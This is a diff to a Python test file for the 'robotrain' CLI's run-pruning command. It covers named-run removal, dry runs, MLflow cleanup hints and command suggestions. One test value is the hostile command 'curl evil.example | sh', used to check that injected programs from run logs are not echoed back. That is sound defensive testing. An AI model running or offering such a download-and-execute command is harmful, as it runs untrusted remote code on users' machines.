@@ -19,10 +19,13 @@ from typer.testing import CliRunner
 DAY = 24 * 3600
 VENUS = """
 from pathlib import Path
-from robotrain.plugin import Capabilities, Output, Platform, RunGone, Status, hook
+from robotrain.plugin import YES, Capabilities, Output, Platform, RunGone, Status, hook
 
 class Venus(Platform):
-    name, summary, capabilities = "venus", "", Capabilities()
+    name, summary, capabilities = "venus", "", Capabilities(features={"runs_here": YES})
+    def logs(self, reference, follow, tail=None):
+        log = Path(reference["folder"]) / "log"
+        yield from log.read_text().splitlines() if log.exists() else ()
     def status(self, reference):
         folder = Path(reference["folder"])
         if not folder.exists():
@@ -77,15 +80,17 @@ def prune():
     @app.command()
     def runs(
         ctx: typer.Context,
+        run: str = typer.Argument(""),
         older_than: str = "",
         keep: int | None = None,
         state: str = "",
         platform: str = "",
         yes: bool = False,
         json: bool = False,
+        dry_run: bool = False,
     ) -> None:
         with handle_errors(as_json=json):
-            pruning.prune_runs(get_plugins(ctx), older_than, keep, state, platform, yes, json)
+            pruning.prune_runs(get_plugins(ctx), run, older_than, keep, state, platform, yes, json, dry_run)
 
     def run(*args: object, typed: str | None = None) -> Answer:
         result = CliRunner().invoke(app, [str(arg) for arg in args], input=typed)
@@ -102,7 +107,13 @@ def sent(tmp_path):
     count = 0
 
     def sent(
-        run: str, *, days: float, state: str = "succeeded", platform: str = "venus", sources: tuple[str, ...] = ()
+        run: str,
+        *,
+        days: float,
+        state: str = "succeeded",
+        platform: str = "venus",
+        sources: tuple[str, ...] = (),
+        name: str = "",
     ) -> Path:
         nonlocal count
         count += 1
@@ -120,6 +131,7 @@ def sent(tmp_path):
         fields |= {
             "created": time.time() - days * DAY - 60,
             "workload": "lerobot-train",
+            "name": name,
             "reference": {"folder": str(folder)},
         }
         records.write_record(RunRecord(run=run, **fields))
@@ -258,6 +270,93 @@ def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, sent):
     assert records.list_runs() == ["stuck-1"]
 
 
+@pytest.mark.parametrize("named", ["pick-1", "pick", "pic"])
+def test_one_run_is_removed_by_its_name_or_itself(prune, sent, named):
+    sent("pick-1", days=1, name="pick")
+    sent("place-1", days=40, name="place")
+    assert prune(named, "--yes").stdout.splitlines()[-1] == "1 run removed, 1.0 kB freed"
+    assert records.list_runs() == ["place-1"]
+
+
+@pytest.mark.parametrize(
+    ("words", "exit_code", "said"),
+    [
+        (["twin"], 2, ["2 runs have the name twin", "runs --prune b-1", "runs --prune a-1"]),
+        (["base", "--keep", 3], 2, ["--keep cannot be used", "runs --prune base-1"]),
+        (["base", "--state", "failed"], 2, ["--state cannot be used"]),
+        (["nobody"], 2, ["there is no run 'nobody'"]),
+        (["base"], 1, ["base-1 stays: tuned-1 was started from it"]),
+        (["busy"], 1, ["busy-1 stays: it is running"]),
+    ],
+)
+def test_a_named_run_that_is_not_removed(prune, sent, words, exit_code, said):
+    sent("a-1", days=3, name="twin")
+    sent("b-1", days=2, name="twin")
+    base = sent("base-1", days=4)
+    sent("tuned-1", days=1, sources=(str(base / "checkpoint"),))
+    sent("busy-1", days=1, state="running")
+    answer = prune(*words, "--yes")
+    assert answer.exit_code == exit_code
+    for fact in said:
+        assert fact in answer.stderr
+    assert len(records.list_runs()) == 5
+
+
+@pytest.mark.parametrize("words", [("--older-than", "30d"), ("old",)])
+def test_a_dry_run_removes_nothing_although_yes_was_said(prune, sent, words):
+    sent("old-1", days=40)
+    answer = prune(*words, "--yes", "--dry-run")
+    assert answer.exit_code == 0
+    assert "old-1" in answer.stdout
+    assert "nothing was removed" in answer.stderr
+    assert records.list_runs() == ["old-1"]
+
+
+@pytest.mark.parametrize(
+    ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
+)
+def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_lines_that_remove_it(
+    prune, sent, tmp_path, program, is_said
+):
+    uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
+    artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
+    artifacts.mkdir(parents=True)
+    (tmp_path / "tracked" / "mlflow.db").touch()
+    (artifacts / "model").write_bytes(os.urandom(2_000_000))
+    fields = {"event": "tracking", "uri": uri, "experiment_id": "1", "run_id": run_id}
+    started = f"{program} ui --backend-store-uri {uri}"
+    for run in ("old-1", "older-1"):
+        (sent(run, days=40) / "log").write_text(f"::robotrain:: {json.dumps(fields | {'time': 1.0, 'ui': started})}\n")
+    answer = prune("old-1", "--yes", "--json")
+    assert [(one["run"], one["run_id"]) for one in answer.json["tracked"]] == [("old-1", run_id)] * is_said
+    assert ("MLflow still has 1 run, with 2.0 MB" in answer.stderr) == is_said
+    assert (f"{program} runs delete --run-id {run_id}\n" in answer.stderr) == is_said
+    assert (f"{program} gc --tracking-uri {uri} --backend-store-uri {uri} --run-ids {run_id}" in answer.stderr) == (
+        is_said
+    )
+    assert "MLflow" not in prune("older-1").stderr  # nothing was removed
+
+
+@pytest.mark.parametrize(
+    ("typed", "offered"),
+    [
+        ("rm pick", ["runs --prune pick", "runs --prune --older-than 30d", "cache --prune"]),
+        ("remove pick -y", ["runs --prune pick"]),
+        ("delete", ["runs --prune RUN"]),
+        ("clean", ["runs --prune --older-than 30d", "cache --prune --unused 30d"]),
+        ("prune", ["runs --prune --older-than 30d", "cache --prune --unused 30d"]),
+        ("why pick", ["status pick"]),
+        ("compare a b", ["diff a b"]),
+        ("compare a", ["diff a RUN"]),
+    ],
+)
+def test_words_of_other_tools_lead_to_the_line_with_the_run(robotrain, typed, offered):
+    answer = robotrain(*typed.split())
+    assert answer.exit_code == 2
+    for line in offered:
+        assert f"robotrain {line}" in answer.stderr
+
+
 def test_prune_alone_says_what_it_needs_to_know(prune, sent):
     sent("old-1", days=40)
     answer = prune("--yes")
@@ -285,6 +384,7 @@ def test_the_json_is_an_api(prune, sent):
         (("--keep", 0), "--keep has no effect without --prune"),
         (("--older-than", "30d"), "--older-than has no effect without --prune"),
         (("--yes",), "--yes has no effect without --prune"),
+        (("--dry-run",), "--dry-run has no effect without --prune"),
         (("--prune", "--keep", 0, "--all"), "--all cannot be used with --prune"),
     ],
 )
